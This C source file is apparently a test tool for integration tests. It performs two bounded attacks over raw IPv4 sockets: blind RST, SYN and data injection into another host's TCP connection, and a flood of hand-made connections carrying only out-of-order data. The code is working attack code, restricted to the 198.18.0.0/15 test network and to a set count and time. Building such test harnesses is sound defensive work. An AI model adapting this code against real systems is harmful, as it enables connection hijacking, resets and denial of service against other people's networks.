/* tcp_attack — bounded blind attacks for the integration tests, over raw IPv4 sockets.
 *
 *   tcp_attack inject SRC_IP SPORT DST_IP DPORT --count N [--rate PPS]
 *       N segments carrying the 4-tuple of someone else's connection (SRC:SPORT ->
 *       DST:DPORT) with guessed sequence and acknowledgment numbers: a third each of RST,
 *       SYN and ACK+data (RFC 5961's blind attacks). Prints "inject: sent=N".
 *   tcp_attack ooo SRC_IP DST_IP DPORT --conns N --segs K [--bytes B] [--hold S] [--port-base P]
 *       Opens N connections from SRC_IP ports P.. (default 20000; hand-made handshakes: the kernel's
 *       RSTs for them must be dropped by the caller, e.g. with nftables), then sends on
 *       each K segments of B bytes (default 1) far beyond a hole at the start: only
 *       out-of-order data. Holds them S seconds (default 3) and resets them (RST+ACK, so
 *       that a filter for the kernel's bare RSTs lets them through). Prints
 *       "ooo: connections=N established=E segments=M".
 *
 * Every address must be in 198.18.0.0/15 (the test network); bounded by count and time
 * (at most 60 s). Exit 0 done, 1 a socket error, 2 usage.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "seg_build.h"

static uint64_t rng = 0x853c49e6748fea9bull;

static uint32_t rnd(void) { return xorshift32(&rng); }

static int rawfd = -1;

/* One IPv4+TCP segment (no options) from src:sp to dst:dp. */
static int send_seg(uint32_t src, uint16_t sp, uint32_t dst, uint16_t dp, uint32_t seq,
                    uint32_t ack, uint8_t flags, const void *data, size_t len)
{
    uint8_t p[20 + 20 + 1500];
    if (len > 1500)
        return -1;
    seg_build_v4(p, (uint16_t)rnd(), src, sp, dst, dp, seq, ack, flags, 65535, NULL, 0, data, len);
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(dst) };
    for (int tries = 0; tries < 1000; tries++) {
        if (sendto(rawfd, p, 40 + len, 0, (struct sockaddr *)&to, sizeof(to)) >= 0)
            return 0;
        if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR)
            return -1;
        struct timespec ts = { 0, 100000 };
        nanosleep(&ts, NULL);
    }
    return -1;
}

static int addr(const char *s, uint32_t *out)
{
    struct in_addr a;
    if (inet_pton(AF_INET, s, &a) != 1)
        return -1;
    *out = ntohl(a.s_addr);
    return (*out & 0xfffe0000u) == 0xC6120000u ? 0 : -1;    /* 198.18.0.0/15 only */
}

static long long opt(int argc, char **argv, int from, const char *name, long long def)
{
    for (int i = from; i + 1 < argc; i++)
        if (!strcmp(argv[i], name))
            return atoll(argv[i + 1]);
    return def;
}

static int inject(int argc, char **argv)
{
    uint32_t src, dst;
    if (argc < 7 || addr(argv[2], &src) || addr(argv[4], &dst)) {
        fprintf(stderr, "usage: tcp_attack inject SRC_IP SPORT DST_IP DPORT --count N [--rate PPS] "
                "(addresses in 198.18.0.0/15)\n");
        return 2;
    }
    uint16_t sp = (uint16_t)atoi(argv[3]), dp = (uint16_t)atoi(argv[5]);
    long long count = opt(argc, argv, 6, "--count", 0), rate = opt(argc, argv, 6, "--rate", 50000);
    if (!sp || !dp || count < 1 || count > 10000000 || rate < 1) {
        fprintf(stderr, "tcp_attack inject: bad port, count or rate\n");
        return 2;
    }
    uint64_t t0 = mono_ns(), end = t0 + 60ull * 1000000000ull;
    long long sent = 0;
    while (sent < count && mono_ns() < end) {
        if (sent > (long long)((mono_ns() - t0) * (double)rate / 1e9) + 64) {
            struct timespec ts = { 0, 200000 };
            nanosleep(&ts, NULL);
            continue;
        }
        uint32_t seq = rnd() ^ (rnd() << 21), ack = rnd() ^ (rnd() << 21);
        int r;
        switch (sent % 3) {
        case 0: r = send_seg(src, sp, dst, dp, seq, 0, 0x04, NULL, 0); break;          /* RST */
        case 1: r = send_seg(src, sp, dst, dp, seq, 0, 0x02, NULL, 0); break;          /* SYN */
        default: r = send_seg(src, sp, dst, dp, seq, ack, 0x18, "EVIL DATA", 9); break; /* data */
        }
        if (r < 0) {
            perror("tcp_attack: sendto");
            return 1;
        }
        sent++;
    }
    printf("inject: sent=%lld seconds=%.2f\n", sent, (double)(mono_ns() - t0) / 1e9);
    return sent == count ? 0 : 1;
}

struct conn {
    uint32_t isn, peer_isn;
    int state;                          /* 0 SYN sent, 1 established */
};

static int ooo(int argc, char **argv)
{
    uint32_t src, dst;
    if (argc < 5 || addr(argv[2], &src) || addr(argv[3], &dst)) {
        fprintf(stderr, "usage: tcp_attack ooo SRC_IP DST_IP DPORT --conns N --segs K [--bytes B] "
                "[--hold S]\n");
        return 2;
    }
    uint16_t dp = (uint16_t)atoi(argv[4]);
    long long n = opt(argc, argv, 5, "--conns", 0), k = opt(argc, argv, 5, "--segs", 1);
    long long bytes = opt(argc, argv, 5, "--bytes", 1), hold = opt(argc, argv, 5, "--hold", 3);
    long long base = opt(argc, argv, 5, "--port-base", 20000);
    if (!dp || n < 1 || n > 5000 || k < 1 || k > 1000 || bytes < 1 || bytes > 1400 || hold < 0 ||
        hold > 30 || base < 1024 || base + n > 65535) {
        fprintf(stderr, "tcp_attack ooo: bad port, conns, segs, bytes or hold\n");
        return 2;
    }
    int rx = socket(AF_INET, SOCK_RAW, IPPROTO_TCP);   /* copies of every TCP segment in */
    if (rx < 0) {
        perror("tcp_attack: socket");
        return 1;
    }
    rng ^= (uint64_t)mono_ns() * 0x9e3779b97f4a7c15ull;    /* fresh ISNs each run */
    int rb = 8 << 20;
    setsockopt(rx, SOL_SOCKET, SO_RCVBUF, &rb, sizeof(rb));
    struct conn *c = calloc((size_t)n, sizeof(*c));
    if (!c)
        return 1;
    uint64_t deadline = mono_ns() + 20ull * 1000000000ull;
    long long est = 0;
    for (int round = 0; round < 4 && est < n && mono_ns() < deadline; round++) {
        for (long long i = 0; i < n; i++)
            if (!c[i].state) {
                if (!c[i].isn)
                    c[i].isn = rnd() | 1;
                if (send_seg(src, (uint16_t)(base + i), dst, dp, c[i].isn, 0, 0x02, NULL, 0) < 0) {
                    perror("tcp_attack: sendto");
                    return 1;
                }
            }
        uint64_t until = mono_ns() + 1000000000ull;
        uint8_t buf[2048];
        while (est < n && mono_ns() < until) {
            struct pollfd pf = { .fd = rx, .events = POLLIN };
            if (poll(&pf, 1, 50) <= 0)
                continue;
            ssize_t r = recv(rx, buf, sizeof(buf), 0);
            if (r < 40)
                continue;
            size_t ihl = (size_t)(buf[0] & 0xf) * 4;
            if ((size_t)r < ihl + 20 || get32(buf + 12) != dst || get32(buf + 16) != src)
                continue;
            const uint8_t *t = buf + ihl;
            unsigned port = get16(t + 2);
            if (get16(t) != dp || port < base || port >= base + n)
                continue;
            struct conn *x = &c[port - base];
            if ((t[13] & 0x12) != 0x12 || x->state || get32(t + 8) != x->isn + 1)
                continue;
            x->peer_isn = get32(t + 4);
            x->state = 1;
            est++;
            send_seg(src, (uint16_t)port, dst, dp, x->isn + 1, x->peer_isn + 1, 0x10, NULL, 0);
        }
    }
    /* only out-of-order data: a hole of 1000 bytes, then K segments 2000 apart */
    static uint8_t junk[1400];
    memset(junk, 'o', sizeof(junk));
    long long segs = 0;
    for (long long j = 0; j < k; j++)
        for (long long i = 0; i < n; i++)
            if (c[i].state) {
                uint32_t seq = c[i].isn + 1 + 1000 + (uint32_t)j * 2000;
                if (send_seg(src, (uint16_t)(base + i), dst, dp, seq, c[i].peer_isn + 1, 0x10, junk,
                             (size_t)bytes) < 0) {
                    perror("tcp_attack: sendto");
                    return 1;
                }
                segs++;
            }
    printf("ooo: connections=%lld established=%lld segments=%lld\n", n, est, segs);
    fflush(stdout);
    sleep((unsigned)hold);
    for (long long i = 0; i < n; i++)
        if (c[i].state)
            send_seg(src, (uint16_t)(base + i), dst, dp, c[i].isn + 1, c[i].peer_isn + 1, 0x14,
                     NULL, 0);          /* RST+ACK: the callers' filters drop bare RSTs only */
    free(c);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc < 2) {
        fprintf(stderr, "usage: tcp_attack inject|ooo ...\n");
        return 2;
    }
    rawfd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (rawfd < 0) {
        perror("tcp_attack: socket");
        return 1;
    }
    int sb = 4 << 20;
    setsockopt(rawfd, SOL_SOCKET, SO_SNDBUF, &sb, sizeof(sb));
    if (!strcmp(argv[1], "inject"))
        return inject(argc, argv);
    if (!strcmp(argv[1], "ooo"))
        return ooo(argc, argv);
    fprintf(stderr, "tcp_attack: unknown mode %s\n", argv[1]);
    return 2;
}
